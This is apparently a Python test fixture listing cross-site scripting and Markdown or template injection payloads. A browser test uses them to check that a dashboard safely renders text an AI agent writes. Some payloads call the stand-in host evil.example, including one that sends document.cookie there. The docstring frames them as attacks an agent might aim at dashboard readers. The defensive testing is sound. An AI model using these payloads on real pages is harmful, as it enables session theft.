"""Payloads an agent might write to attack the people reading the dashboard.

Each one, if it ran, would show up in the browser test's hooks: `alert`/`confirm`/`prompt` as a
dialog, `console.log` as a console message, a load or `fetch` from `evil.example` as a request to
another origin, and anything the page's policy had to block as a `securitypolicyviolation` event.
Written for this test from the well-known families of HTML, URL, Markdown and template injection.
"""

from __future__ import annotations

EVIL = "https://evil.example"

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(2)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    "<iframe src=javascript:alert(5)></iframe>",
    '<iframe srcdoc="<script>alert(6)</script>"></iframe>',
    "<body onload=alert(7)>",
    "<details open ontoggle=alert(8)>",
    "<input autofocus onfocus=alert(9)>",
    "<select autofocus onfocus=alert(10)></select>",
    "<textarea autofocus onfocus=alert(11)></textarea>",
    "<video><source onerror=alert(12)></video>",
    "<audio src=x onerror=alert(13)>",
    "<marquee onstart=alert(14)>x</marquee>",
    "<object data=javascript:alert(15)></object>",
    "<embed src=https://evil.example/x.swf>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/y.css';</style>",
    '<div style="background:url(https://evil.example/bg.png)">styled</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><button>go</button></form>',
    "<a href=javascript:alert(16)>click</a>",
    '<a href="&#106;avascript:alert(17)">entity</a>',
    "[md link](javascript:alert(18))",
    "[md link](JaVaScRiPt:alert(19))",
    "[md link](&#x6A;avascript:alert(20))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMSk8L3NjcmlwdD4=)",
    "[vb](vbscript:msgbox(22))",
    "![remote image](https://evil.example/tracker.png)",
    '![x](x" onerror="alert(23))',
    "[ref link][r]\n\n[r]: javascript:alert(24)",
    "<javascript:alert(25)>",
    "[proto-relative](//evil.example/x)",
    '"><script>alert(26)</script>',
    "'><img src=x onerror=alert(27)>",
    "</textarea><script>alert(28)</script>",
    "</title><script>alert(29)</script>",
    "</style><script>alert(30)</script>",
    "<scr<script>ipt>alert(31)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(32)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(33)>">',
    "<!--<img src=x onerror=alert(34)>-->",
    '<svg><a xlink:href="javascript:alert(35)"><text x="20" y="20">svg link</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(36)>#x"/></svg>',
    "<template><script>alert(37)</script></template>",
    "<x onmouseover=alert(38)>hover</x>",
    '" onmouseover="alert(39)',
    "' onfocus='alert(40)' autofocus='",
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %}",
    "${alert(41)} #{alert(42)}",
    "<img src=x:alert(alt) onerror=eval(src) alt=43>",
    "<script>console.log('xss-44')</script>",
    "<img src=x onerror=\"fetch('https://evil.example/exfil?c='+document.cookie)\">",
    "`<script>alert(45)</script>` and ```\n<script>alert(46)</script>\n```",
    "<isindex action=javascript:alert(47) type=image>",
    "<a href='#' onclick='alert(48)'>anchor</a>",
    "\u202e<script>alert(49)</script>\u2028<img src=x onerror=alert(50)>",
    "@<img src=x onerror=alert(51)> @human-<script>alert(52)</script>",
    "<keygen autofocus onfocus=alert(53)>",
    '<form><button formaction="javascript:alert(54)">b</button></form>',
    '<a href="https://evil.example/" target="_blank">reverse tabnabbing</a>',
]

# Short ones fit names (channel names at most 64 characters, tools 64, model and harness 100).
SHORT = [p for p in PAYLOADS if len(p) <= 64]
